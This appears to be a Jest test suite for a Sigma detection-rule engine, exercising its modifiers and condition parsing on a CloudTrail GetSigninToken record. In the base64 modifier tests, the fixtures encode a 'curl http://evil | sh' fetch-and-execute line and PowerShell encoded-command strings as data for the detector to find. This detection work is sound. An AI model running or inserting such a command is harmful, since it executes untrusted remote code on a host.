/** Sigma detection semantics: every modifier and condition form, on real CloudTrail records (and edits of them). */
import { describe, expect, it } from '@jest/globals';
import { compileDetection, SigmaProblem } from '../../../src/detect/sigma/detection.js';
import { base64Offsets, parseSigmaString } from '../../../src/detect/sigma/values.js';
import { loadDataset } from '../helpers.js';

// A real record: panther_cloudtrail_tests line 67, GetSigninToken from the console federation endpoint's Jersey client.
const signin = loadDataset('panther_cloudtrail_tests')[66]?.event.raw as Record<string, unknown>;
const where = (path: readonly (string | number)[], key?: string): string =>
  `rule.yml:${path.join('.')}${key ? `.${key}` : ''}`;
const det = (d: Record<string, unknown>): ((r: unknown) => boolean) => compileDetection(d, where);
const one = (sel: Record<string, unknown>, rec: unknown = signin): boolean =>
  det({ sel, condition: 'sel' })(rec);
const problem = (d: Record<string, unknown>): string => {
  try {
    det(d);
  } catch (err) {
    expect(err).toBeInstanceOf(SigmaProblem);
    return `${(err as SigmaProblem).where}: ${(err as Error).message}`;
  }
  throw new Error('expected a problem');
};

describe('the record used', () => {
  it('is the real GetSigninToken record', () => {
    expect(signin.eventName).toBe('GetSigninToken');
    expect(signin.eventSource).toBe('signin.amazonaws.com');
    expect(signin.userAgent).toBe('Jersey/${project.version}');
  });
});

describe('values', () => {
  it('compare case-insensitively by default, exactly with cased', () => {
    expect(one({ eventName: 'getsignintoken' })).toBe(true);
    expect(one({ eventName: 'GETSIGNINTOKEN' })).toBe(true);
    expect(one({ 'eventName|cased': 'getsignintoken' })).toBe(false);
    expect(one({ 'eventName|cased': 'GetSigninToken' })).toBe(true);
    expect(one({ eventName: 'GetSignin' })).toBe(false);
  });
  it('treat * and ? as wildcards, anchored at both ends', () => {
    expect(one({ eventName: 'Get*' })).toBe(true);
    expect(one({ eventName: '*Token' })).toBe(true);
    expect(one({ eventName: 'Get*Token' })).toBe(true);
    expect(one({ eventName: 'GetSigninT?ken' })).toBe(true);
    expect(one({ eventName: 'GetSigninT?oken' })).toBe(false);
    expect(one({ eventName: 'Sign*' })).toBe(false);
    expect(one({ eventName: '*' })).toBe(true);
  });
  it('escape wildcards and backslashes as the specification says', () => {
    expect(parseSigmaString('a\\*b')).toEqual([{ lit: 'a*b' }]);
    expect(parseSigmaString('a\\?b')).toEqual([{ lit: 'a?b' }]);
    expect(parseSigmaString('C:\\Windows')).toEqual([{ lit: 'C:\\Windows' }]);
    expect(parseSigmaString('C:\\\\Windows')).toEqual([{ lit: 'C:\\Windows' }]);
    expect(parseSigmaString('a\\\\*')).toEqual([{ lit: 'a\\' }, { wild: '*' }]);
    expect(parseSigmaString('a\\\\\\*')).toEqual([{ lit: 'a\\*' }]);
    expect(parseSigmaString('\\\\\\\\')).toEqual([{ lit: '\\\\' }]);
    const rec = { ...signin, userAgent: 'tool*v1?\\x' };
    expect(one({ userAgent: 'tool\\*v1\\?\\x' }, rec)).toBe(true);
    expect(one({ userAgent: 'tool\\*v1\\?\\\\x' }, rec)).toBe(true);
    expect(one({ userAgent: 'toolXv1?\\x' }, rec)).toBe(false);
    expect(one({ userAgent: 'tool\\*' }, rec)).toBe(false);
  });
  it('OR a list of values, AND the entries of a map', () => {
    expect(one({ eventName: ['ConsoleLogin', 'GetSigninToken'] })).toBe(true);
    expect(one({ eventName: ['ConsoleLogin', 'StopLogging'] })).toBe(false);
    expect(one({ eventName: 'GetSigninToken', eventSource: 'signin.amazonaws.com' })).toBe(true);
    expect(one({ eventName: 'GetSigninToken', eventSource: 'iam.amazonaws.com' })).toBe(false);
  });
  it('read null as absent or null, and an empty string as itself', () => {
    expect(signin.errorCode).toBeUndefined();
    expect(one({ errorCode: null })).toBe(true);
    expect(one({ errorCode: null }, { ...signin, errorCode: null })).toBe(true);
    expect(one({ errorCode: null }, { ...signin, errorCode: 'AccessDenied' })).toBe(false);
    expect(one({ errorCode: '' })).toBe(false);
    expect(one({ errorCode: '' }, { ...signin, errorCode: '' })).toBe(true);
    expect(one({ 'userIdentity.sessionContext.nothing': null })).toBe(true);
  });
  it('compare numbers and booleans as their text', () => {
    const rec = { ...signin, requestParameters: { enable: false, port: 22 } };
    expect(one({ 'requestParameters.enable': 'false' }, rec)).toBe(true);
    expect(one({ 'requestParameters.enable': false }, rec)).toBe(true);
    expect(one({ 'requestParameters.port': 22 }, rec)).toBe(true);
    expect(one({ 'requestParameters.port': '22' }, rec)).toBe(true);
    expect(one({ 'requestParameters.port': 2 }, rec)).toBe(false);
  });
  it('give the same answers with the early reject on event names', () => {
    // Names compare case-folded; a list-valued name still gets the full test; a negated name pins nothing.
    expect(one({ eventName: ['consolelogin', 'GETSIGNINTOKEN'] })).toBe(true);
    expect(one({ eventName: 'GetSigninToken' }, { ...signin, eventName: ['X', 'GetSigninToken'] })).toBe(
      true,
    );
    expect(det({ a: { eventName: 'ConsoleLogin' }, condition: 'not a' })(signin)).toBe(true);
    expect(
      det({
        a: { eventName: 'ConsoleLogin' },
        b: { eventSource: 'signin.amazonaws.com' },
        condition: 'a or b',
      })(signin),
    ).toBe(true);
    expect(
      det({ a: { eventName: 'ConsoleLogin' }, b: { eventName: 'GetSigninToken' }, condition: '1 of them' })(
        signin,
      ),
    ).toBe(true);
    expect(
      det({ a: { eventName: 'ConsoleLogin' }, b: { eventName: 'GetSigninToken' }, condition: 'all of them' })(
        signin,
      ),
    ).toBe(false);
  });
  it('walk dotted fields into nested objects and fan out over lists', () => {
    expect(one({ 'userIdentity.type': 'AssumedRole' })).toBe(
      signin.userIdentity !== undefined && (signin.userIdentity as { type: string }).type === 'AssumedRole',
    );
    const rec = { ...signin, resources: [{ ARN: 'arn:aws:s3:::a' }, { ARN: 'arn:aws:s3:::b' }] };
    expect(one({ 'resources.ARN': 'arn:aws:s3:::b' }, rec)).toBe(true);
    expect(one({ 'resources.ARN': 'arn:aws:s3:::c' }, rec)).toBe(false);
  });
  it('match an object or list field against its JSON text', () => {
    const rec = {
      ...signin,
      requestParameters: { VersioningConfiguration: { Status: 'Suspended' } },
      tags: ['x', 'y'],
    };
    expect(one({ 'requestParameters|contains': 'suspended' }, rec)).toBe(true);
    expect(one({ 'requestParameters|contains': '"Status":"Suspended"' }, rec)).toBe(true);
    expect(one({ 'requestParameters|contains': 'Enabled' }, rec)).toBe(false);
    expect(one({ tags: 'y' }, rec)).toBe(true);
    expect(one({ 'tags|contains': '["x","y"]' }, rec)).toBe(true);
  });
});

describe('modifiers', () => {
  it('contains, startswith, endswith', () => {
    expect(one({ 'userAgent|contains': 'project.VERSION' })).toBe(true);
    expect(one({ 'userAgent|contains': 'nothere' })).toBe(false);
    expect(one({ 'userAgent|startswith': 'jersey/' })).toBe(true);
    expect(one({ 'userAgent|startswith': 'project' })).toBe(false);
    expect(one({ 'userAgent|endswith': '.version}' })).toBe(true);
    expect(one({ 'userAgent|endswith': 'Jersey' })).toBe(false);
    // The wildcards inside a value keep working.
    expect(one({ 'userAgent|contains': 'ey/$*.ver' })).toBe(true);
  });
  it('all turns a value list into AND, and needs two values', () => {
    expect(one({ 'userAgent|contains|all': ['jersey', 'version'] })).toBe(true);
    expect(one({ 'userAgent|contains|all': ['jersey', 'python'] })).toBe(false);
    expect(one({ 'userAgent|contains': ['jersey', 'python'] })).toBe(true);
    expect(problem({ sel: { 'userAgent|contains|all': 'jersey' }, condition: 'sel' })).toMatch(
      /^rule\.yml:detection\.sel\.userAgent\|contains\|all: .*all needs a list of two or more values/,
    );
  });
  it('re with its i, m and s sub-modifiers (case-sensitive, unanchored by default)', () => {
    expect(one({ 'eventName|re': 'Signin' })).toBe(true);
    expect(one({ 'eventName|re': 'signin' })).toBe(false);
    expect(one({ 'eventName|re|i': 'signin' })).toBe(true);
    expect(one({ 'eventName|re': '^GetSigninToken$' })).toBe(true);
    const rec = { ...signin, userAgent: 'line one\nline two' };
    expect(one({ 'userAgent|re': '^line two$' }, rec)).toBe(false);
    expect(one({ 'userAgent|re|m': '^line two$' }, rec)).toBe(true);
    expect(one({ 'userAgent|re': 'one.line' }, rec)).toBe(false);
    expect(one({ 'userAgent|re|s': 'one.line' }, rec)).toBe(true);
    expect(one({ 'userAgent|re|i|m': '^LINE TWO$' }, rec)).toBe(true);
    expect(problem({ sel: { 'eventName|re': '(' }, condition: 'sel' })).toMatch(
      /not a valid regular expression/,
    );
    expect(problem({ sel: { 'eventName|i': 'x' }, condition: 'sel' })).toMatch(
      /"i" is a sub-modifier of "re"/,
    );
    expect(problem({ sel: { 'eventName|re|contains': 'x' }, condition: 'sel' })).toMatch(
      /re cannot be combined with contains/,
    );
  });
  it('cidr, for IPv4 and IPv6', () => {
    expect(signin.sourceIPAddress).toBeDefined();
    const rec4 = { ...signin, sourceIPAddress: '10.1.2.3' };
    expect(one({ 'sourceIPAddress|cidr': '10.0.0.0/8' }, rec4)).toBe(true);
    expect(one({ 'sourceIPAddress|cidr': ['192.168.0.0/16', '10.1.2.0/24'] }, rec4)).toBe(true);
    expect(one({ 'sourceIPAddress|cidr': '11.0.0.0/8' }, rec4)).toBe(false);
    const rec6 = { ...signin, sourceIPAddress: '2001:db8::1' };
    expect(one({ 'sourceIPAddress|cidr': '2001:db8::/32' }, rec6)).toBe(true);
    expect(one({ 'sourceIPAddress|cidr': '10.0.0.0/8' }, rec6)).toBe(false);
    // A service name where an address usually is does not match (and does not throw).
    expect(
      one({ 'sourceIPAddress|cidr': '0.0.0.0/0' }, { ...signin, sourceIPAddress: 'ec2.amazonaws.com' }),
    ).toBe(false);
    expect(problem({ sel: { 'sourceIPAddress|cidr': '10.0.0.300/8' }, condition: 'sel' })).toMatch(
      /is not a CIDR network/,
    );
  });
  it('exists: present (even when null) or absent', () => {
    expect(one({ 'userAgent|exists': true })).toBe(true);
    expect(one({ 'errorCode|exists': true })).toBe(false);
    expect(one({ 'errorCode|exists': false })).toBe(true);
    expect(one({ 'errorCode|exists': true }, { ...signin, errorCode: null })).toBe(true);
    expect(problem({ sel: { 'errorCode|exists': 'yes' }, condition: 'sel' })).toMatch(
      /exists takes true or false/,
    );
  });
  it('fieldref compares with another field of the same record', () => {
    const rec = {
      ...signin,
      requestParameters: { userName: 'alice' },
      userIdentity: { userName: 'ALICE', arn: 'arn:aws:iam::1:user/alice' },
    };
    expect(one({ 'requestParameters.userName|fieldref': 'userIdentity.userName' }, rec)).toBe(true);
    expect(one({ 'requestParameters.userName|fieldref|cased': 'userIdentity.userName' }, rec)).toBe(false);
    expect(one({ 'userIdentity.arn|fieldref|endswith': 'requestParameters.userName' }, rec)).toBe(true);
    expect(one({ 'userIdentity.arn|fieldref|startswith': 'requestParameters.userName' }, rec)).toBe(false);
    expect(one({ 'userIdentity.arn|fieldref|contains': 'requestParameters.userName' }, rec)).toBe(true);
    expect(one({ 'requestParameters.userName|fieldref': 'userIdentity.missing' }, rec)).toBe(false);
  });
  it('base64 and base64offset (and UTF-16 before them)', () => {
    const enc = Buffer.from('curl http://evil', 'utf8').toString('base64');
    const rec = { ...signin, requestParameters: { userData: enc } };
    expect(one({ 'requestParameters.userData|base64': 'curl http://evil' }, rec)).toBe(true);
    expect(one({ 'requestParameters.userData|base64': 'curl http://good' }, rec)).toBe(false);
    // The value anywhere in a longer encoded text, at any of the three offsets.
    for (const prefix of ['#!/bin/sh\n', '#!/bin/sh\nx', '#!/bin/sh\nxy']) {
      const data = Buffer.from(`${prefix}curl http://evil | sh`, 'utf8').toString('base64');
      const r = { ...signin, requestParameters: { userData: data } };
      expect(one({ 'requestParameters.userData|base64offset|contains': 'curl http://evil' }, r)).toBe(true);
      expect(one({ 'requestParameters.userData|base64offset|contains': 'wget http://evil' }, r)).toBe(false);
    }
    expect(base64Offsets(Buffer.from('/bin/bash'))).toEqual(['L2Jpbi9iYXNo', '9iaW4vYmFza', 'vYmluL2Jhc2']);
    const wide = Buffer.from('x powershell -enc', 'utf16le').toString('base64');
    const rw = { ...signin, requestParameters: { script: wide } };
    expect(one({ 'requestParameters.script|wide|base64offset|contains': 'powershell' }, rw)).toBe(true);
    expect(one({ 'requestParameters.script|utf16le|base64offset|contains': 'powershell' }, rw)).toBe(true);
    expect(one({ 'requestParameters.script|base64offset|contains': 'powershell' }, rw)).toBe(false);
    const be = Buffer.from('\ufeffx powershell', 'utf16le');
    be.swap16();
    const rb = { ...signin, requestParameters: { script: be.toString('base64') } };
    expect(one({ 'requestParameters.script|utf16be|base64offset|contains': 'x powershell' }, rb)).toBe(true);
    expect(one({ 'requestParameters.script|utf16le|base64offset|contains': 'x powershell' }, rb)).toBe(false);
    // utf16: a byte-order mark, then little-endian.
    const bom = Buffer.from('\ufeffcmd', 'utf16le').toString('base64');
    expect(
      one(
        { 'requestParameters.script|utf16|base64': 'cmd' },
        { ...signin, requestParameters: { script: bom } },
      ),
    ).toBe(true);
    expect(problem({ sel: { 'requestParameters.script|wide': 'x' }, condition: 'sel' })).toMatch(
      /must be followed by base64 or base64offset/,
    );
    expect(problem({ sel: { 'requestParameters.script|base64': 'a*' }, condition: 'sel' })).toMatch(
      /cannot encode a value with wildcards/,
    );
  });
  it('windash: every dash form', () => {
    const rec = { ...signin, userAgent: 'tool /flag' };
    expect(one({ 'userAgent|windash|contains': ' -flag' }, rec)).toBe(true);
    expect(one({ 'userAgent|windash|contains': ' \u2013flag' }, rec)).toBe(true);
    expect(one({ 'userAgent|contains': ' -flag' }, rec)).toBe(false);
  });
  it('gt, gte, lt, lte on numbers', () => {
    const rec = { ...signin, requestParameters: { durationSeconds: 43200, text: 'abc' } };
    expect(one({ 'requestParameters.durationSeconds|gt': 3600 }, rec)).toBe(true);
    expect(one({ 'requestParameters.durationSeconds|gte': 43200 }, rec)).toBe(true);
    expect(one({ 'requestParameters.durationSeconds|lt': 43200 }, rec)).toBe(false);
    expect(one({ 'requestParameters.durationSeconds|lte': 43200 }, rec)).toBe(true);
    expect(one({ 'requestParameters.text|gt': 0 }, rec)).toBe(false);
    expect(problem({ sel: { 'x|gt': 'many' }, condition: 'sel' })).toMatch(/gt takes a number/);
  });
  it('names what is accepted for unknown and unsupported modifiers', () => {
    expect(problem({ sel: { 'eventName|contain': 'x' }, condition: 'sel' })).toMatch(
      /^rule\.yml:detection\.sel\.eventName\|contain: unknown modifier "contain" in "eventName\|contain"; accepted: contains, startswith/,
    );
    expect(problem({ sel: { 'eventName|expand': '%servers%' }, condition: 'sel' })).toMatch(
      /unsupported modifier "expand"/,
    );
    expect(problem({ sel: { 'eventTime|hour': 3 }, condition: 'sel' })).toMatch(
      /unsupported modifier "hour"/,
    );
  });
});

describe('keywords (field-less searches)', () => {
  it('search every value of the record, case-insensitively, as substrings', () => {
    expect(det({ keywords: ['project.version', 'nothing-like-this'], condition: 'keywords' })(signin)).toBe(
      true,
    );
    expect(det({ keywords: ['nothing-like-this'], condition: 'keywords' })(signin)).toBe(false);
    expect(
      det({ keywords: { '|all': ['jersey', 'signin.amazonaws.com'] }, condition: 'keywords' })(signin),
    ).toBe(true);
    expect(
      det({ keywords: { '|all': ['jersey', 'nothing-like-this'] }, condition: 'keywords' })(signin),
    ).toBe(false);
    expect(det({ keywords: ['GetSignin*Token'], condition: 'keywords' })(signin)).toBe(true);
  });
});

describe('selections', () => {
  it('a list of maps is OR of the maps', () => {
    const d = {
      sel: [
        { eventName: 'ConsoleLogin' },
        { eventName: 'GetSigninToken', eventSource: 'signin.amazonaws.com' },
      ],
      condition: 'sel',
    };
    expect(det(d)(signin)).toBe(true);
    const e = {
      sel: [{ eventName: 'ConsoleLogin' }, { eventName: 'GetSigninToken', eventSource: 'iam.amazonaws.com' }],
      condition: 'sel',
    };
    expect(det(e)(signin)).toBe(false);
  });
  it('rejects null inside a value list and mixed lists', () => {
    expect(problem({ sel: { errorCode: ['', null] }, condition: 'sel' })).toMatch(
      /null cannot be part of a list/,
    );
    expect(problem({ sel: ['a', { b: 1 }], condition: 'sel' })).toMatch(/mixes maps and plain values/);
  });
});

describe('conditions', () => {
  const ids = {
    sel_name: { eventName: 'GetSigninToken' },
    sel_source: { eventSource: 'signin.amazonaws.com' },
    filter_ua: { 'userAgent|contains': 'Jersey' },
    filter_other: { eventName: 'ConsoleLogin' },
    _private: { eventName: 'Nothing' },
  };
  const cond = (c: string | string[]): boolean => det({ ...ids, condition: c })(signin);
  it('and, or, not, with or < and < not precedence', () => {
    expect(cond('sel_name and sel_source')).toBe(true);
    expect(cond('sel_name and not filter_ua')).toBe(false);
    expect(cond('filter_other or sel_name')).toBe(true);
    expect(cond('filter_other or sel_name and filter_ua')).toBe(true);
    // "not a or b" is "(not a) or b".
    expect(cond('not sel_name or filter_other')).toBe(false);
    expect(cond('not not sel_name')).toBe(true);
    expect(cond('NOT filter_other AND sel_name')).toBe(true);
  });
  it('parentheses', () => {
    expect(cond('(filter_other or sel_name) and filter_ua')).toBe(true);
    expect(cond('filter_other or (sel_name and not filter_ua)')).toBe(false);
    expect(cond('not (filter_other or sel_name)')).toBe(false);
  });
  it('1 of / all of a pattern, and of them (which leaves out _ identifiers)', () => {
    expect(cond('1 of sel_*')).toBe(true);
    expect(cond('all of sel_*')).toBe(true);
    expect(cond('all of filter_*')).toBe(false);
    expect(cond('1 of filter_*')).toBe(true);
    expect(cond('sel_name and not 1 of filter_*')).toBe(false);
    expect(cond('1 of them')).toBe(true);
    expect(cond('all of them')).toBe(false);
    expect(
      det({ a: { eventName: 'GetSigninToken' }, _b: { eventName: 'X' }, condition: 'all of them' })(signin),
    ).toBe(true);
    expect(
      det({ a: { eventName: 'X' }, _b: { eventName: 'GetSigninToken' }, condition: '1 of them' })(signin),
    ).toBe(false);
  });
  it('a list of conditions is any of them', () => {
    expect(cond(['filter_other', 'sel_name'])).toBe(true);
    expect(cond(['filter_other', '_private'])).toBe(false);
  });
  it('errors name the condition, the column and what is accepted', () => {
    expect(problem({ ...ids, condition: 'sel_name and' })).toMatch(
      /condition "sel_name and", column 13: the condition ends/,
    );
    expect(problem({ ...ids, condition: 'sel_name and (sel_source' })).toMatch(/a "\(" is not closed/);
    expect(problem({ ...ids, condition: 'sel_nam' })).toMatch(
      /"sel_nam" is not a search identifier of this rule \(defined: sel_name/,
    );
    expect(problem({ ...ids, condition: '2 of sel_*' })).toMatch(
      /"2 of" is not Sigma; use "1 of" or "all of"/,
    );
    expect(problem({ ...ids, condition: '1 of nope_*' })).toMatch(/"nope_\*" matches no search identifier/);
    expect(problem({ ...ids, condition: 'sel_* and filter_ua' })).toMatch(
      /a wildcard needs "1 of" or "all of"/,
    );
    expect(problem({ ...ids, condition: 'sel_name | count() > 5' })).toMatch(
      /obsolete in Sigma 2; write a correlation rule/,
    );
    expect(problem({ ...ids, condition: 'sel_name sel_source' })).toMatch(
      /unexpected "sel_source"; accepted:/,
    );
  });
});
